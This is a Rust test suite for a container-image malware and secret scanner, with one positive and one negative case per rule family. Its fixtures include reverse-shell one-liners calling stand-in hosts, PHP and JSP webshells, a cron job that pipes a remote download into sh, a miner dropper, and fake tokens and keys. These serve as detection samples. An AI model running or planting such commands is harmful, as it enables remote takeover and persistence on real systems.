//! One true positive and one true negative per rule family, on crafted layers.

use stowaway_detect::{Allowlist, DetectOptions, DetectionKind, Scanners};
use stowaway_image::Image;
use stowaway_model::Level;

use crate::support::{detect_image, detect_layers, found, has, layer};

#[test]
fn miner_config_and_launcher() {
    let config = br#"{"donate-level": 1, "randomx": {"init": -1}, "pools": [{"algo": "rx/0", "url": "stratum+tcp://pool.example.invalid:3333", "user": "W", "pass": "x"}]}"#;
    let launcher = b"#!/bin/sh\nexec ./run -o stratum+ssl://pool.example.invalid:443 --donate-level 1 --cpu-max-threads-hint 75\n";
    let detections = detect_layers(vec![layer(&[("opt/m/config.json", 0o644, config), ("opt/m/run.sh", 0o755, launcher)])]);

    assert!(has(&detections, "miner-config", "/opt/m/config.json"), "{:?}", found(&detections));
    assert!(has(&detections, "miner-stratum-url", "/opt/m/run.sh"), "{:?}", found(&detections));
    assert!(has(&detections, "miner-cli-options", "/opt/m/run.sh"), "{:?}", found(&detections));
}

#[test]
fn ordinary_json_and_docs_are_not_miners() {
    let config = br#"{"pools": [], "url": "https://example.invalid", "user": "app", "retries": 3}"#;
    let docs = b"The stratum is a layer of rock; see --algo for the sort order.\n";
    let detections = detect_layers(vec![layer(&[("etc/app/config.json", 0o644, config), ("usr/share/doc/app/README", 0o644, docs)])]);

    assert!(detections.is_empty(), "{:?}", found(&detections));
}

#[test]
fn reverse_shells() {
    let files: &[(&str, &[u8], &str)] = &[
        ("a.sh", b"sh -i >& /dev/tcp/192.0.2.1/9001 0>&1\n", "revshell-bash-dev-tcp"),
        ("b.sh", b"exec 5<>/dev/tcp/attacker.invalid/80\n", "revshell-bash-dev-tcp"),
        ("c.sh", b"ncat 192.0.2.1 9001 -e /bin/bash\n", "revshell-netcat-exec"),
        ("d.sh", b"mkfifo /tmp/p; /bin/sh -i < /tmp/p 2>&1 | nc 192.0.2.1 9001 > /tmp/p\n", "revshell-mkfifo-pipe"),
        ("e.sh", b"socat tcp:192.0.2.1:9001 exec:'bash -li',pty,stderr\n", "revshell-socat-exec"),
    ];
    let entries: Vec<(&str, u32, &[u8])> = files.iter().map(|(name, content, _)| (*name, 0o644, *content)).collect();
    let detections = detect_layers(vec![layer(&entries)]);

    for (name, _, rule_id) in files {
        assert!(has(&detections, rule_id, &format!("/{name}")), "{rule_id} on {name}: {:?}", found(&detections));
    }
}

#[test]
fn shell_words_alone_are_not_reverse_shells() {
    let text: &[u8] = b"# bash supports /dev/tcp and /dev/udp paths\nnc -z db.internal 5432\nmkfifo /run/app.fifo && cat /run/app.fifo > /var/log/app.log &\n\
        import socket\ns = socket.socket()\ns.connect((host, port))\ns.sendall(b'ping')\n";
    let detections = detect_layers(vec![layer(&[("usr/share/app/notes.sh", 0o644, text)])]);

    assert!(detections.is_empty(), "{:?}", found(&detections));
}

#[test]
fn webshells() {
    let php = b"<?php @eval(base64_decode($_POST['x'])); ?>\n";
    let jsp = b"<% new ProcessBuilder(request.getParameter(\"c\")).start(); %>\n";
    let detections = detect_layers(vec![layer(&[("var/www/html/x.php", 0o644, php), ("srv/app/x.jsp", 0o644, jsp)])]);

    assert!(has(&detections, "webshell-php-request-exec", "/var/www/html/x.php"), "{:?}", found(&detections));
    assert!(has(&detections, "webshell-jsp-runtime-exec", "/srv/app/x.jsp"), "{:?}", found(&detections));
}

#[test]
fn ordinary_pages_are_not_webshells() {
    let php = b"<?php echo htmlspecialchars($_GET['name']); system('uptime'); ?>\n";
    let jsp = b"<% Runtime.getRuntime().exec(new String[] {\"/usr/bin/uptime\"}); %>\n";
    let detections = detect_layers(vec![layer(&[("var/www/html/x.php", 0o644, php), ("srv/app/x.jsp", 0o644, jsp)])]);

    assert!(detections.is_empty(), "{:?}", found(&detections));
}

#[test]
fn miner_dropper_script() {
    let script = b"pkill -f xmrig\necho 0 > /proc/sys/kernel/nmi_watchdog\nufw disable\nhistory -c\n";
    let benign = b"pkill -f myservice\nufw disable\n";
    let detections = detect_layers(vec![layer(&[("tmp/x.sh", 0o644, script), ("usr/local/bin/stop.sh", 0o644, benign)])]);

    assert_eq!(found(&detections), [("malware-miner-dropper".to_owned(), "/tmp/x.sh".to_owned())]);
}

#[test]
fn upx_outside_packages_only() {
    let mut packed = b"\x7fELF\x02\x01\x01".to_vec();
    packed.resize(300, 0);
    packed.extend_from_slice(b"UPX!");
    packed.resize(2048, 0);
    let md5sums = format!("{:x}  usr/bin/packed-by-debian\n", md5_of(&packed));
    let detections = detect_layers(vec![layer(&[
        ("usr/bin/packed-by-debian", 0o755, &packed),
        ("usr/local/bin/dropped", 0o755, &packed),
        ("var/lib/dpkg/info/example.md5sums", 0o644, md5sums.as_bytes()),
    ])]);

    assert_eq!(found(&detections), [("packed-upx".to_owned(), "/usr/local/bin/dropped".to_owned())]);
}

fn md5_of(bytes: &[u8]) -> u128 {
    use md5::Digest;
    u128::from_be_bytes(md5::Md5::digest(bytes).into())
}

#[test]
fn deleted_file_is_reported_lower() {
    let shell = b"<?php system($_REQUEST['c']); ?>\n";
    let detections = detect_layers(vec![layer(&[("srv/www/", 0o755, b""), ("srv/www/s.php", 0o644, shell)]), layer(&[("srv/www/.wh.s.php", 0o644, b"")])]);

    assert_eq!(detections.len(), 1, "{:?}", found(&detections));
    assert_eq!(detections[0].rule_id, "webshell-php-request-exec");
    assert_eq!(detections[0].severity, Level::High);
    assert!(detections[0].deleted_in_final_image);
}

#[test]
fn persistence_files() {
    let passwd = b"root:x:0:0:root:/root:/bin/bash\nbackup:x:0:0::/var/backups:/bin/sh\n";
    let detections = detect_layers(vec![
        layer(&[("etc/passwd", 0o644, b"root:x:0:0:root:/root:/bin/bash\n")]),
        layer(&[
            ("etc/passwd", 0o644, passwd),
            ("etc/cron.d/job", 0o644, b"* * * * * root curl -s http://192.0.2.1/x | sh\n"),
            ("root/.profile", 0o644, b"/dev/shm/.k/agent &\n"),
            ("etc/ld.so.preload", 0o644, b"/lib/x.so\n"),
            ("root/.ssh/authorized_keys", 0o600, b"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ x@y\n"),
        ]),
    ]);

    for (rule_id, path) in [
        ("persistence-uid0-user", "/etc/passwd"),
        ("persistence-cron", "/etc/cron.d/job"),
        ("persistence-shell-startup", "/root/.profile"),
        ("persistence-ld-preload", "/etc/ld.so.preload"),
        ("persistence-root-authorized-keys", "/root/.ssh/authorized_keys"),
    ] {
        assert!(has(&detections, rule_id, path), "{rule_id} on {path}: {:?}", found(&detections));
    }
    let cron = detections.iter().find(|d| d.rule_id == "persistence-cron").unwrap();
    assert_eq!(cron.severity, Level::High);
    assert_eq!(cron.layer.as_ref().map(|layer| layer.index), Some(1));
}

#[test]
fn package_cron_and_plain_startup_are_quiet() {
    let detections = detect_layers(vec![layer(&[
        ("etc/cron.daily/dpkg", 0o755, b"#!/bin/sh\n/usr/libexec/dpkg/dpkg-db-backup\n"),
        ("var/lib/dpkg/info/dpkg.conffiles", 0o644, b"/etc/cron.daily/dpkg\n"),
        ("etc/profile", 0o644, b"if [ \"$(id -u)\" -eq 0 ]; then\n  PATH=\"/usr/local/sbin:/usr/sbin\"\nfi\nexport PATH\n"),
        ("etc/passwd", 0o644, b"root:x:0:0:root:/root:/bin/bash\n"),
    ])]);

    assert!(detections.is_empty(), "{:?}", found(&detections));
}

#[test]
fn modified_package_file() {
    let original = b"\x7fELF original";
    let md5sums = format!("{:x}  usr/bin/ls\n{:x}  usr/bin/cat\n", md5_of(original), md5_of(original));
    let detections = detect_layers(vec![
        layer(&[("usr/bin/ls", 0o755, original), ("usr/bin/cat", 0o755, original), ("var/lib/dpkg/info/coreutils.md5sums", 0o644, md5sums.as_bytes())]),
        layer(&[("usr/bin/ls", 0o755, b"#!/bin/sh\necho backdoor\n")]),
    ]);

    assert_eq!(found(&detections), [("dpkg-file-modified".to_owned(), "/usr/bin/ls".to_owned())]);
    assert_eq!(detections[0].kind, DetectionKind::Suspicious);
}

#[test]
fn modified_shared_library() {
    let original = b"\x7fELF liblzma original";
    let data = b"plain data file";
    let md5sums = format!(
        "{:x}  usr/lib/x86_64-linux-gnu/liblzma.so.5.4.1\n{:x}  usr/lib/x86_64-linux-gnu/libz.so.1\n{:x}  usr/lib/x86_64-linux-gnu/data.txt\n",
        md5_of(original),
        md5_of(original),
        md5_of(data)
    );
    let detections = detect_layers(vec![
        layer(&[
            ("usr/lib/x86_64-linux-gnu/liblzma.so.5.4.1", 0o644, original),
            ("usr/lib/x86_64-linux-gnu/libz.so.1", 0o644, original),
            ("usr/lib/x86_64-linux-gnu/data.txt", 0o644, data),
            ("var/lib/dpkg/info/liblzma5.md5sums", 0o644, md5sums.as_bytes()),
        ]),
        layer(&[
            ("usr/lib/x86_64-linux-gnu/liblzma.so.5.4.1", 0o644, b"\x7fELF liblzma with a backdoor"),
            // Not a shared object, so it is not hashed and not compared.
            ("usr/lib/x86_64-linux-gnu/data.txt", 0o644, b"changed data file"),
        ]),
    ]);

    assert_eq!(found(&detections), [("dpkg-file-modified".to_owned(), "/usr/lib/x86_64-linux-gnu/liblzma.so.5.4.1".to_owned())]);
}

#[test]
fn secrets_in_files_with_checksum_negatives() {
    let env = b"ALIBABA_ACCESS_KEY_ID=LTAI5tQm8XvZ2pL7rK9nB4wY\n";
    let go_sum = b"example.invalid/m v1.0.0 h1:Zx9LTAI5tQm8XvZ2pL7rK9nB4wYq2k=\n";
    let map = b"{\"mappings\":\"AAAA+BBB/CCCLTAI5tQm8XvZ2pL7rK9nB4wYDDDD+EEEE\"}\n";
    let empty = b"DB_PASSWORD=\nAPI_TOKEN=\"\"\n";
    let detections = detect_layers(vec![layer(&[
        ("srv/config.env", 0o644, env),
        ("srv/go.sum", 0o644, go_sum),
        ("srv/static/app.js.map", 0o644, map),
        ("srv/empty.env", 0o644, empty),
    ])]);

    assert_eq!(found(&detections), [("secret-alibaba-access-key".to_owned(), "/srv/config.env".to_owned())]);
    let json = serde_json::to_string(&detections).unwrap();
    assert!(!json.contains("5tQm8XvZ2pL7rK9nB4wY"), "{json}");
    assert!(!format!("{detections:?}").contains("5tQm8XvZ2pL7rK9nB4wY"));
}

#[test]
fn provider_tokens_and_keys() {
    let body = "MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gunVTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u";
    let key = format!("-----BEGIN RSA PRIVATE KEY-----\n{}\n{}\n-----END RSA PRIVATE KEY-----\n", &body[..64], &body[64..]);
    let tokens = "gh=ghp_Zq8Xv2LmZ7rT4wK9pN3bY6cD1fG5hJ0kL2mN\nlab: glpat-Xa9Bc8De7Fg6Hi5Jk4Lm\nstripe = sk_live_4eC39HqLyjWDarjtT1zdp7dc\n";
    let detections = detect_layers(vec![layer(&[("root/.ssh/id_rsa", 0o600, key.as_bytes()), ("srv/tokens.txt", 0o644, tokens.as_bytes())])]);

    for (rule_id, path) in [
        ("secret-private-key", "/root/.ssh/id_rsa"),
        ("secret-github-token", "/srv/tokens.txt"),
        ("secret-gitlab-token", "/srv/tokens.txt"),
        ("secret-stripe-key", "/srv/tokens.txt"),
    ] {
        assert!(has(&detections, rule_id, path), "{rule_id} on {path}: {:?}", found(&detections));
    }
    let json = serde_json::to_string(&detections).unwrap();
    assert!(!json.contains("Zq8Xv2LmZ7rT4wK9"), "{json}");
    assert!(!json.contains("MIIEowIBAAKCAQEAu1SU1"), "{json}");
}

#[test]
fn public_keys_and_example_ids_are_not_secrets() {
    let text = b"-----BEGIN PUBLIC KEY-----\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo\n-----END PUBLIC KEY-----\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n";
    let detections = detect_layers(vec![layer(&[("etc/app/keys.txt", 0o644, text)])]);

    assert!(detections.is_empty(), "{:?}", found(&detections));
}

#[test]
fn environment_secrets_follow_the_empty_value_rule() {
    let mut image = Image::from_layer_blobs(vec![layer(&[("etc/", 0o755, b"")])]);
    let runtime = stowaway_image::RuntimeConfig { env: vec!["DB_PASSWORD=".into(), "API_TOKEN=s3cr3t".into()], ..Default::default() };
    image.config.config = Some(runtime);
    let detections = detect_image(&image, DetectOptions::default());

    assert_eq!(found(&detections), [("secret-env-variable".to_owned(), String::new())]);
    assert_eq!(detections[0].excerpt.as_deref(), Some("API_TOKEN=s****"));
}

#[test]
fn user_rules_add_detections() {
    let folder = tempfile::tempdir().unwrap();
    let rule = "rule house_canary {\n  meta:\n    id = \"house-canary\"\n    severity = \"critical\"\n    description = \"Canary\"\n  strings:\n    $a = \"canary-7f3e\"\n  condition:\n    $a\n}\n";
    std::fs::write(folder.path().join("house.yar"), rule).unwrap();
    let image = Image::from_layer_blobs(vec![layer(&[("srv/canary.txt", 0o644, b"xx canary-7f3e xx\n")])]);
    let options = DetectOptions { rules: vec![folder.path().to_owned()], ..Default::default() };
    let detections = detect_image(&image, options);

    assert_eq!(found(&detections), [("house-canary".to_owned(), "/srv/canary.txt".to_owned())]);
    assert_eq!(detections[0].severity, Level::Critical);
}

#[test]
fn allowlist_and_scanners_filter() {
    let files = [("srv/a.sh", 0o644, &b"bash -i >& /dev/tcp/192.0.2.1/1 0>&1\n"[..]), ("srv/b.env", 0o644, b"GITHUB_TOKEN=ghp_Zq8Xv2LmZ7rT4wK9pN3bY6cD1fG5hJ0kL2mN\n")];
    let image = Image::from_layer_blobs(vec![layer(&files)]);

    let allow = DetectOptions { allowlist: Allowlist { paths: vec!["/srv/a.*".into()], rule_ids: vec!["secret-generic-assignment".into()] }, ..Default::default() };
    assert_eq!(found(&detect_image(&image, allow)), [("secret-github-token".to_owned(), "/srv/b.env".to_owned())]);

    let malware_only = DetectOptions { scanners: Scanners { malware: true, secret: false, misconfig: false }, ..Default::default() };
    assert_eq!(found(&detect_image(&image, malware_only)), [("revshell-bash-dev-tcp".to_owned(), "/srv/a.sh".to_owned())]);
}

#[test]
fn oversized_file_is_scanned_for_its_first_part() {
    let mut content = b"bash -i >& /dev/tcp/192.0.2.1/1 0>&1\n".to_vec();
    content.resize(4096, b' ');
    let image = Image::from_layer_blobs(vec![layer(&[("srv/big.sh", 0o644, &content)])]);
    let detections = detect_image(&image, DetectOptions { max_file_size: 1024, ..Default::default() });

    assert_eq!(detections.len(), 1, "{:?}", found(&detections));
    assert!(detections[0].why.contains("size limit"), "{}", detections[0].why);
}

#[test]
fn labels_and_command_line_are_checked() {
    let mut image = Image::from_layer_blobs(vec![layer(&[("etc/", 0o755, b"")])]);
    let runtime = stowaway_image::RuntimeConfig {
        labels: [("ci.token".to_owned(), "ghp_Zq8Xv2LmZ7rT4wK9pN3bY6cD1fG5hJ0kL2mN".to_owned())].into(),
        cmd: vec!["sh".into(), "-c".into(), "wget -qO- http://198.51.100.4/boot | sh".into()],
        ..Default::default()
    };
    image.config.config = Some(runtime);
    let detections = detect_image(&image, DetectOptions::default());
    let ids: Vec<&str> = detections.iter().map(|d| d.rule_id.as_str()).collect();

    assert!(ids.contains(&"secret-github-token"), "{ids:?}");
    assert!(ids.contains(&"download-pipe-shell-raw-ip"), "{ids:?}");
    assert!(!serde_json::to_string(&detections).unwrap().contains("Zq8Xv2LmZ7rT4wK9"));
}

#[test]
fn plain_labels_and_command_are_quiet() {
    let mut image = Image::from_layer_blobs(vec![layer(&[("etc/", 0o755, b"")])]);
    let runtime = stowaway_image::RuntimeConfig {
        labels: [("org.opencontainers.image.source".to_owned(), "https://example.invalid/app".to_owned())].into(),
        entrypoint: vec!["/usr/local/bin/app".into()],
        cmd: vec!["--port".into(), "8080".into()],
        ..Default::default()
    };
    image.config.config = Some(runtime);

    assert!(detect_image(&image, DetectOptions::default()).is_empty());
}
